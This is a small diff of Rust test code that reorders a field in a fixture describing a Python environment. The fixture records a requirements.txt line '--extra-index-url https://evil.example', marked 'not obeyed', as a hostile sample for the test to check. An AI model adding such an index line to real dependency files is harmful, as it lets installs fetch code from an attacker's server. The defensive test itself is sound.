@@ -279,11 +279,11 @@ fn environment() -> Environment {
         ("scipy".to_owned(), "1.0.0".to_owned()),
     ];
     let wishes = vec![Wish {
-        missing: false,
         file: "requirements.txt".to_owned(),
         line: 3,
         text: "--extra-index-url https://evil.example".to_owned(),
         done: "not obeyed".to_owned(),
+        missing: false,
     }];
     Environment {
         kind: EnvironmentKind::Uv,
